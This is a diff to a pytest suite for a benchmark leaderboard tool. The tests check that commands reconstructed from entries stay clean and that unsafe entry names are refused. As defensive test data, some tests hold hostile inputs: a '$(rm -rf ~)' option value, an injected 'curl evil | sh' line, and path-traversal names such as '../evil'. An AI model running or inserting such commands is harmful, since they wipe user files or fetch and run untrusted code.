@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import shlex
 from pathlib import Path
 
@@ -10,12 +11,14 @@ import pytest
 from boardkit import SEEDS, board, made, packed, posted
 
 from ddbench.base.cache import read_json, write_json
+from ddbench.base.options import options
 from ddbench.base.tensors import content_digest
 from ddbench.boards import ranking
 from ddbench.boards.board import Board, found
 from ddbench.boards.entry import NAME, POINTS, Entry, EntryRun, command_of, curves, is_command, pack
 from ddbench.boards.submit import drafted, submit
 from ddbench.errors import DataError, UsageError
+from ddbench.plugins import Plugin
 from ddbench.run.record import RunRecord, SpecRecord
 from ddbench.run.spec import Request, resolve
 
@@ -110,6 +113,23 @@ def sealed(folder: Path, name: str) -> None:
     write_json(folder / "result.json", result)
 
 
+def test_an_entry_records_the_digests_of_the_sources_that_made_it(runs, tmp_path):
+    folders = copied(runs, tmp_path / "runs")
+    sources = {"matcher random": "a" * 64, "ddbench": "b" * 64}
+    for folder in folders:
+        write_json(folder / "result.json", read_json(folder / "result.json") | {"sources": sources})
+    (path,) = entered(tmp_path, folders)
+    assert [run.result.sources for run in Entry.read(path).runs] == [sources] * 2
+
+
+def test_an_entry_of_the_same_setting_is_found_whatever_version_named_it(runs, tmp_path):
+    (path,) = entered(tmp_path, runs)
+    path = path.rename(path.with_name("random-ipc1-00000000.json"))
+    with pytest.raises(UsageError, match=r"random-ipc1-00000000\.json holds an entry of these settings already"):
+        entered(tmp_path, runs)
+    assert entered(tmp_path, runs, replace=True) == [path]
+
+
 def test_the_file_of_an_entry_has_a_line_for_each_run_and_reads_as_any_other_layout_does(runs, tmp_path):
     (path,) = entered(tmp_path, runs, note='two\nlines, "quoted"')
     held, lines = read_json(path), path.read_text().splitlines()
@@ -154,7 +174,47 @@ def test_the_command_of_an_entry_makes_its_specs_again(monkeypatch):
     assert given["device"] == "cpu"
     again = Request(**given | {"ipc": int(given["ipc"])}, seed=2, flags=tuple(told))
     assert resolve(again).spec.record() == specs[0].record()
-    assert len(told) == 5  # nothing that recipes or the protocol give anyway
+    assert {"matcher.steps=7", "dataset.zca=true"} <= {"=".join(pair) for pair in told}
+
+
+def test_the_command_of_an_entry_holds_whatever_recipes_say_later(monkeypatch):
+    monkeypatch.setenv("DDBENCH_THREADS", "1")
+    spec = resolve(Request("digits", "tesla", "pdd", ipc=10, device="cpu")).spec
+    own = [SpecRecord.model_validate(spec.record())]
+    text = command_of(own, 5)
+    monkeypatch.setattr(Plugin, "recipe", lambda *_: None)
+    assert command_of(own, 5) == text
+    told = tuple(tuple(w.split("=", 1)) for w in shlex.split(text) if "=" in w and not w.startswith("DDBENCH"))
+    again = resolve(Request("digits", "tesla", "pdd", ipc=10, device="cpu", flags=told)).spec
+    kept = ("dataset", "matcher", "scheduler", "network", "experts", "decoder")
+    assert {part: again.record()[part] for part in kept} == {part: spec.record()[part] for part in kept}
+    assert options(again.protocol) | {"name": ""} == options(spec.protocol) | {"name": ""}
+
+
+@pytest.mark.parametrize("kind", ["dataset", "matcher", "scheduler", "network"])
+def test_without_the_plugin_no_command_is_told(runs, kind):
+    held = RunRecord.read(runs[0]).spec.json_value()
+    assert command_of([SpecRecord.model_validate(held)], 2)
+    held[kind] = {"name": "elsewhere", "options": {"run": "$(rm -rf ~)"}}
+    assert command_of([SpecRecord.model_validate(held)], 2) == ""
+
+
+def test_a_command_that_somebody_wrote_into_an_entry_is_shown_nowhere(runs, tmp_path):
+    made_ = board(tmp_path, runs[0])
+    posted(made_, runs[0], "edited", [0.5, 0.6], command="ddbench run --dataset hf:evil/repo\ncurl evil | sh")
+    (entry,) = made_.entries()
+    assert "evil" not in made_.command(entry) + ranking.board_text(ranking.standings(made_))
+    assert made_.command(entry).startswith("DDBENCH_THREADS=1 ddbench run --dataset toy --matcher random --ipc 1 ")
+
+
+def test_a_place_of_data_in_an_entry_is_no_part_of_its_command(runs, tmp_path):
+    made_ = board(tmp_path, runs[0])
+    entry = posted(made_, runs[0], "edited", [0.5, 0.6])
+    for part in entry["runs"]:
+        part["spec"]["dataset"]["options"] |= {"path": "evil/repo", "root": "/evil"}
+        part["evaluations"].append(part["evaluations"][0] | {"network": "evil(x=1)"})
+    write_json(made_.folder / "entries" / "edited.json", entry)
+    assert "evil" not in made_.command(made_.entries()[0])
 
 
 def test_seeds_that_do_not_follow_each_other_get_a_command_each(runs):
@@ -292,8 +352,8 @@ def test_an_entry_that_was_edited_against_the_rules_is_found(runs, tmp_path):
     assert len(made_.entries()) == 1
     entry = posted(made_, runs[0], "edited", [0.5, 0.6])
     for odd, match in (
-        (1.01, r"edited.json breaks the rules of the board: .*numbers are none"),
-        (float("nan"), r"edited.json breaks the rules of the board: .*numbers are none"),
+        (1.01, r"edited.json is damaged \(runs.0.evaluations.0.students.0.accuracy: should be a number from 0 to 1\)"),
+        (float("nan"), r"edited.json is not readable JSON \(NaN is no number of JSON\); submit the runs again"),
         ("0.99", r"edited.json is damaged \(runs.0.evaluations.0.students.0.accuracy: .*should be a number\)"),
     ):
         entry["runs"][0]["evaluations"][0]["students"] = [{"accuracy": odd}, {"accuracy": 0.9}]
@@ -301,7 +361,7 @@ def test_an_entry_that_was_edited_against_the_rules_is_found(runs, tmp_path):
         with pytest.raises(DataError, match=match):
             made_.entries()
     write_json(made_.folder / "entries" / "edited.json", {"format": 1})
-    with pytest.raises(DataError, match="it lacks method, runs, command"):
+    with pytest.raises(DataError, match="it lacks method, runs;"):
         made_.entries()
     write_json(made_.folder / "entries" / "edited.json", entry | {"runs": [{}]})
     with pytest.raises(DataError, match=r"edited.json is damaged \(runs.0.run: Field required\); submit"):
@@ -311,26 +371,28 @@ def test_an_entry_that_was_edited_against_the_rules_is_found(runs, tmp_path):
 def test_a_board_without_a_rule_is_refused(runs, tmp_path):
     path = board(tmp_path, runs[0]).folder / "board.toml"
     text = path.read_text()
-    for line, match in (("seeds = [0, 1]", "needs 'seeds'"), ("students = 2", "needs 'students'")):
+    for line, match in (("seeds = [0, 1]", "seeds: Field required"), ("students = 2", "students: Field")):
         path.write_text(text.replace(line, ""))
         with pytest.raises(DataError, match=match):
             Board.load(path.parent)
     for more, match in (
         ("sedes = 1", "unknown; did you mean 'seeds'"),
-        ("mark_seeds = 2", "mark_seeds as numbers from 5"),
-        ("mark_seeds = '5'", "mark_seeds as numbers"),
+        ("mark_seeds = 2", "mark_seeds: Input should be greater than or equal to 5"),
+        ("mark_seeds = '5'", "mark_seeds: Input should be a valid integer"),
+        ("about = [1]", "about: Input should be a valid string"),
     ):
         path.write_text(f"{more}\n{text}")
         with pytest.raises(DataError, match=match):
             Board.load(path.parent)
     for old, new, match in (
-        ("ipc = [1, 2]", "ipc = [1, 1]", "ipc as numbers from 1, none of them twice"),
-        ("seeds = [0, 1]", "seeds = ['a']", "seeds as numbers from 0"),
-        ("students = 2", "students = 0", "students as numbers from 1"),
+        ("ipc = [1, 2]", "ipc = [1, 1]", "ipc: should be numbers, none of them twice"),
+        ("seeds = [0, 1]", "seeds = ['a']", "seeds.0: Input should be a valid integer"),
+        ("seeds = [0, 1]", "seeds = [99999999999999999999]", "should be"),
+        ("students = 2", "students = 0", "students: Input should be greater than or equal to 1"),
         ("judges = 1", "judges = 9", "records digest .* but name and options give"),
         ("judges = 1", "juges = 1", "did you mean 'judges'"),
         ("name = 'default'", "name = 'defualt'", "did you mean 'default'"),
-        ("name = 'convnet'", "name = 'convnet'\nwidth = 3", "has more in .network. than name"),
+        ("name = 'convnet'", "name = 'convnet'\nwidth = 3", "network.width: Extra inputs are not permitted"),
     ):
         assert old in text
         path.write_text(text.replace(old, new))
@@ -419,19 +481,16 @@ def test_the_command_tells_on_which_networks_the_sets_were_evaluated_as_well(run
         "ddbench run > /etc/x",
     ],
 )
-def test_a_command_that_is_no_call_of_ddbench_is_refused(runs, tmp_path, line):
+def test_a_line_that_is_no_call_of_ddbench_is_no_command(line):
     assert not is_command(line)
-    made_ = board(tmp_path, runs[0])
-    posted(made_, runs[0], "edited", [0.5, 0.6], command=f"ddbench run\n{line}\nddbench run")
-    with pytest.raises(DataError, match="has a command that is not a call of ddbench"):
-        made_.entries()
 
 
 @pytest.mark.parametrize(
     ("name", "value", "match"),
     [
         ("image_bytes", -5, "for image_bytes, which is no cost"),
-        ("peak_bytes", float("inf"), "for peak_bytes, which is"),
+        ("peak_bytes", float("inf"), "Infinity is no number of JSON"),
+        ("peak_bytes", 1e101, "peak_bytes: should be a number of at most"),
         ("distil_seconds", "x", r"edited.json is damaged \(runs.0.result.distil_seconds: .*should be a number\)"),
     ],
 )
@@ -500,7 +559,16 @@ def test_the_digits_board_is_what_its_dataset_and_recipe_give(monkeypatch):
     assert usual.dataset.load().digest == found.dataset.digest
 
 
-def test_a_name_that_is_no_file_name_becomes_one(runs):
-    run = packed(runs[0])
-    odd = run | {"spec": run["spec"] | {"matcher": {"name": "../É vil/" + "x" * 90, "options": {}}}}
-    assert NAME.fullmatch(EntryRun.model_validate(odd).entry_name)
+def test_an_entry_is_called_by_its_method_and_setting(runs):
+    assert re.fullmatch(r"random-ipc1-[0-9a-f]{8}", EntryRun.model_validate(packed(runs[0])).entry_name)
+
+
+@pytest.mark.parametrize("name", ["../evil", "a/b", "-o", ".hidden", "É", "a b", "x" * 129, "", "a\n"])
+def test_a_name_that_could_be_a_path_or_an_option_is_refused(runs, tmp_path, name):
+    made_ = board(tmp_path, runs[0])
+    entry = posted(made_, runs[0], "edited", [0.5, 0.6])
+    for part in entry["runs"]:
+        part["spec"]["matcher"]["name"] = name
+    write_json(made_.folder / "entries" / "edited.json", entry)
+    with pytest.raises(DataError, match=r"edited.json is damaged \(runs.0.spec.matcher.name: "):
+        made_.entries()
